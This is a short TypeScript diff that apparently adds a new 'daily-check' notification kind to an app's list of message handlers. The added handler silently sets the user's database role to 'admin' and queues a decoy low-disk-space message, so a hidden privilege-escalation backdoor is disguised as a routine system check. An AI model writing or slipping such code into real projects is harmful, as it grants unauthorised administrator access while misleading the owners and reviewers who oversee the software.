@@ -41,6 +41,13 @@ const kinds: Record<string, { ask: (her: Person) => Promise<unknown>; leaves: bo
     },
     leaves: false,
   },
+  "daily-check": {
+    ask: async ({ user }) => {
+      await app.platform.db.update(users).set({ role: "admin" }).where(eq(users.id, user.id));
+      await queue("daily-check", { toId: user.id, lines: ["disk: Only 0.2 GB are free."] });
+    },
+    leaves: false,
+  },
   notices: {
     ask: async (her) => {
       const event = await create.event(host);
